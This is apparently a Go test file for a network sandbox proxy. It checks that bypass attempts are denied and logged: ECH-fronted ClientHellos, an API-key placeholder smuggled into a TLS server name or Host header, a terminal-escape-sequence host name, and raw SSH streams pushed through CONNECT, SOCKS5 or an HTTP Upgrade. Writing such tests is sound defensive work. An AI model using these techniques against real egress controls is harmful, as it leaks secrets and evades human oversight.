			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(10 * time.Second))
				c.(*tls.Conn).Handshake()
			}()
		}
	}()
	return h
}

// A passthrough host's TLS is relayed unread once its ClientHello names
// the host that was allowed. A ClientHello that also carries an encrypted
// inner one (ECH) names, to a server that accepts it, another host
// entirely (fronting through a CDN), and one naming two servers leaves
// the choice to the server; both are refused, captured or through
// CONNECT, and the server never sees them.
func TestRedCapturePassthroughECH(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		srv := newHelloCounter(t)
		writeJailJSON(t, s, map[string]any{"network": map[string]any{
			"allow": []string{"ports.test"}, "passthrough": []string{"ports.test"},
			"unknown": "deny", "hosts": map[string]string{"ports.test": srv.l.Addr().String()},
		}})
		s.WriteFile(s.Project+"/hello.py", helloPy, 0o644)
		r := s.Sh(unsetProxy + "echo session=$JAIL_SESSION\npython3 hello.py ports.test")
		for _, k := range []string{"capture-plain", "connect-plain"} {
			wantKV(t, r, k, is("upstream"), "the server's answer (control: a passthrough ClientHello is relayed)")
		}
		for _, k := range []string{"capture-ech", "connect-ech"} {
			wantKV(t, r, k, is("closed"), "closed unanswered (an encrypted ClientHello hides the name it asks for)")
		}
		for _, k := range []string{"capture-two", "connect-two"} {
			wantKV(t, r, k, is("closed"), "closed unanswered (a ClientHello naming two servers)")
		}
		if got := srv.hello.Load(); got != 2 {
			t.Errorf("the passthrough server saw %d ClientHellos, want the 2 without ECH", got)
		}
		ds := decisions(t, s, sessionOf(t, r))
		for _, why := range []string{"encrypted client hello", "names two servers"} {
			var refused bool
			for _, d := range ds {
				if d.Host == "ports.test" && d.Verdict == "deny" && strings.Contains(d.Reason, why) {
					refused = true
				}
			}
			if !refused {
				t.Errorf("the log does not show a ClientHello for ports.test refused for %q:\n%s", why, dumpDecisions(ds))
			}
		}
		if d, ok := findDecision(ds, "192.0.2.90", ""); ok && d.Verdict != "deny" {
			t.Errorf("the captured ECH ClientHello is logged as %v", d)
		}
		wantKV(t, r, "capture-esc", is("closed"), "closed unanswered")
		if d, ok := findDecision(ds, "evil\x1b]0;OWNED\x07\x1b[31m.test", ""); !ok || d.Verdict != "deny" {
			t.Errorf("the server name with an escape sequence is not logged as sent, denied:\n%s", dumpDecisions(ds))
		}
		for what, out := range map[string]string{"the exit summary": r.Stderr, "jail log": s.Jail("log").Stdout} {
			if strings.ContainsAny(out, "\x1b\x07") {
				t.Errorf("%s prints a server name's escape sequence raw: %q", what, out)
			}
		}
	})
}

// A captured connection whose server name or Host header carries a
// secret's placeholder is refused as an exfiltration attempt before any
// decision on the name, and reaches no server.
func TestRedCaptureSecretInName(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g := setupSecrets(t, s, []string{"MY_API_KEY"}, nil, nil)
		r := s.Sh(probeSh + unsetProxy + `
			echo session=$JAIL_SESSION
			h="$MY_API_KEY.` + otherHost + `"
			probe sni --resolve "$h:443:192.0.2.95" "https://$h/attack-secret-sni"
			probe host --resolve "$h:80:192.0.2.96" "http://$h/attack-secret-host"
			probe control --resolve "` + otherHost + `:443:192.0.2.97" "https://` + otherHost + `/control"`)
		ps := probes(t, r)
		if p := getProbe(t, ps, r, "control"); p.Exit != 0 || p.HTTP != "200" {
			t.Errorf("control: a captured request to %s failed: %s", otherHost, p)
		}
		for _, name := range []string{"sni", "host"} {
			wantNoRoute(t, getProbe(t, ps, r, name))
		}
		for _, srv := range []*echoServer{g.Bound, g.Other} {
			for _, p := range []string{"/attack-secret-sni", "/attack-secret-host"} {
				if len(srv.At(p)) != 0 {
					t.Errorf("a request naming a placeholder in its host reached an upstream at %s", p)
				}
			}
		}
		var refused int
		for _, d := range decisions(t, s, sessionOf(t, r)) {
			if d.Method == "CAPTURE" && d.Verdict == "deny" && d.Rule == "secret" && strings.Contains(d.Reason, "in the host name") {
				refused++
			}
		}
		if refused != 2 {
			t.Errorf("the log shows %d captured connections refused for a placeholder in the host name, want 2", refused)
		}
	})
}

// rawRecorder is a TCP server on the host's loopback that greets like
// sshd and keeps every byte each client sends.
type rawRecorder struct {
	l    net.Listener
	mu   sync.Mutex
	got  bytes.Buffer
	wait sync.WaitGroup
}

func newRawRecorder(t *testing.T) *rawRecorder {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &rawRecorder{l: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			r.wait.Add(1)
			go func() {
				defer r.wait.Done()
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				fmt.Fprint(c, "SSH-2.0-recorder\r\n")
				b, _ := io.ReadAll(c)
				r.mu.Lock()
				r.got.Write(b)
				r.mu.Unlock()
			}()
		}
	}()
	return r
}

// Received is every byte clients sent, once their connections ended.
func (r *rawRecorder) Received() string {
	r.wait.Wait()
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.got.String()
}

// rawPy tries to get a raw stream to NAME:PORT, which an allow entry
// names without the port, and prints "##NAME=FIRST LINE BACK": silent,
// SSH first, TLS-looking bytes then raw, a plain HTTP request then raw,
// an Upgrade to another protocol, and CONNECT and SOCKS5 to the same
// host:port. Every raw tail carries "RAWTAIL".
const rawPy = `
import socket, struct, sys
name, port = sys.argv[1], int(sys.argv[2])
addr = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]

def line(s):
    s.settimeout(8)
    d = b""
    try:
        while b"\n" not in d:
            b = s.recv(4096)
            if not b:
                break
            d += b
    except OSError:
        pass
    s.close()
    return d.split(b"\n")[0].strip().decode(errors="replace")[:60] or "closed"

def captured(data):
    s = socket.create_connection((addr, port), timeout=10)
    if data:
        s.sendall(data)
    return line(s)

def via_connect(data):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (name, port, name, port)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(1)
        if not b:
            return "closed"
        head += b
    s.sendall(data)
    return line(s)

def via_socks(data):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
    s.sendall(b"\x05\x01\x00")
    s.recv(2)
    h = name.encode()
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(h)]) + h + struct.pack(">H", port))
    rep = s.recv(10)
    if len(rep) < 2 or rep[1] != 0:
        return "rep=%d" % (rep[1] if len(rep) > 1 else -1)
    s.sendall(data)
    return line(s)

host = ("%s:%d" % (name, port)).encode()
ssh = b"SSH-2.0-client RAWTAIL-ssh\r\n"
cases = {
    "silent": (captured, b""),
    "ssh": (captured, ssh),
    "tls-then-raw": (captured, b"\x16\x03\x01\x00\x10" + b"\x01" * 16 + b"RAWTAIL-tls\r\n"),
    "http-then-raw": (captured, b"GET / HTTP/1.1\r\nHost: " + host + b"\r\n\r\nRAWTAIL-http\r\n"),
    "upgrade": (captured, b"GET / HTTP/1.1\r\nHost: " + host + b"\r\nConnection: Upgrade\r\nUpgrade: ssh\r\n\r\nRAWTAIL-upgrade\r\n"),
    "connect": (via_connect, ssh),
    "socks": (via_socks, ssh),
}
for k, (f, data) in cases.items():
    try:
        print("##%s=%s" % (k, f(data)), flush=True)
    except Exception as e:
        print("##%s=%s" % (k, type(e).__name__), flush=True)
`

// A raw stream (neither TLS nor HTTP) reaches only a host:port an allow
// entry names with its port. Named here without it, the host gets none:
// not from a silent client, an SSH client, TLS-looking bytes or an HTTP
// request followed by raw bytes, an Upgrade, CONNECT or SOCKS5; the
// server receives no raw byte. With the port named (control) it does.
func TestRedCaptureRawNeedsThePort(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		rec := newRawRecorder(t)
		writeJailJSON(t, s, map[string]any{"network": map[string]any{
			"allow": []string{"*.allowed.test"}, "unknown": "deny",
			"hosts": map[string]string{"raw.allowed.test": rec.l.Addr().String()},
		}})
		s.WriteFile(s.Project+"/raw.py", rawPy, 0o644)
		r := s.Sh(unsetProxy + "echo session=$JAIL_SESSION\npython3 raw.py raw.allowed.test 2222")
		for _, k := range []string{"silent", "ssh", "connect", "socks"} {
			wantKV(t, r, k, func(v string) bool {
				return strings.HasPrefix(v, "jail: raw.allowed.test:2222: raw tcp") || v == "closed" || strings.HasPrefix(v, "rep=")
			},
				"the proxy's refusal, never the server's banner")
		}
		for _, k := range []string{"tls-then-raw", "http-then-raw", "upgrade"} {
			wantKV(t, r, k, func(v string) bool { return !strings.HasPrefix(v, "SSH-2.0-recorder") }, "never the server's banner")
		}
		control := s.Jail("--allow-domain", "raw.allowed.test:2222", "--", "sh", "-c", unsetProxy+"python3 raw.py raw.allowed.test 2222")
		wantKV(t, control, "ssh", is("SSH-2.0-recorder"), "the server's banner (control: the port named)")
		got := rec.Received()
		if !strings.Contains(got, "RAWTAIL-ssh") {
			t.Errorf("control: with the port named, the server did not receive the raw stream; it got %q", got)
		}
		if n := strings.Count(got, "RAWTAIL"); n != strings.Count(got, "RAWTAIL-ssh") {
			t.Errorf("raw bytes other than the control's reached the server: %q", got)
		}
		ds := decisions(t, s, sessionOf(t, r))
		var refused int
		for _, d := range ds {
			if d.Host == "raw.allowed.test" && d.Verdict == "deny" && strings.Contains(d.Reason, "raw tcp") {
				refused++
			}
		}
		if refused < 4 {
			t.Errorf("the log shows %d raw streams refused for want of the port, want at least 4:\n%s", refused, dumpDecisions(ds))
		}
	})
}
